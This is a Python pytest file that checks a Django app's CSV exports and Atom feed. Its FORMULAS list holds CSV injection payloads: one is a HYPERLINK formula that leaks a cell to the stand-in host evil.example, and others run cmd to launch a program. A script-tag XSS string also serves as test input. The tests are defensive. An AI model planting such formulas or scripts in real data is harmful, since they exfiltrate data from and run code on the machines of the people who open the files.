"""Exports and feeds a hostile name cannot turn into live content: CSV cells a spreadsheet
would run as formulas, and markup in the Atom feed's summaries."""

import csv
import io
import xml.etree.ElementTree as ET

import pytest

from tests.builders import make_budget, make_factory

ATOM = "{http://www.w3.org/2005/Atom}"
# OWASP's CSV injection payloads: a link that leaks the next cell, and three ways to run a program.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A2,"Pharos")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def csv_rows(response):
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.django_db
@pytest.mark.parametrize("payload", FORMULAS)
def test_a_formula_in_a_name_or_a_city_is_text_in_the_csv(client, payload):
    factory = make_factory(name=payload, site={"city": payload})
    (row,) = csv_rows(client.get("/api/v1/factories/", {"format": "csv"}))
    assert row["name"] == "'" + payload
    (row,) = csv_rows(client.get(f"/api/v1/factories/{factory.slug}/", {"format": "csv"}))
    assert row["name"] == "'" + payload
    assert row["host_site.city"] == "'" + payload


@pytest.mark.django_db
@pytest.mark.parametrize("start", ["\t", "\r"])
def test_a_leading_tab_or_carriage_return_is_neutralised_too(client, start):
    make_factory(name=start + "=1+1")
    (row,) = csv_rows(client.get("/api/v1/factories/", {"format": "csv"}))
    assert row["name"] == "'" + start + "=1+1"


@pytest.mark.django_db
def test_numbers_stay_numbers_and_plain_text_is_unchanged(client):
    factory = make_factory(name="Pharos", site={"city": "Athens", "longitude": "-8.5"})
    make_budget(factory)
    (row,) = csv_rows(client.get(f"/api/v1/factories/{factory.slug}/", {"format": "csv"}))
    assert row["name"] == "Pharos"
    assert row["host_site.city"] == "Athens"
    assert row["host_site.longitude"] == "-8.5"
    assert row["budget.total_eur_million"] == "42"


@pytest.mark.django_db
def test_markup_and_entities_in_the_feed_summary_are_text(client):
    make_factory(name="<script>alert(1)</script> <b>Bold</b> A &ndash; B")
    response = client.get("/changes/feed/")
    feed = ET.fromstring(response.content)
    summaries = [entry.find(f"{ATOM}summary") for entry in feed.findall(f"{ATOM}entry")]
    assert summaries
    for summary in summaries:
        assert summary.get("type") == "html"
    text = "".join(summary.text for summary in summaries)
    # The reader unescapes the XML once and renders the result as HTML: it must still be escaped.
    assert "<b>" not in text and "<script>" not in text
    assert "&lt;b&gt;Bold&lt;/b&gt;" in text
    assert "A &amp;ndash; B" in text
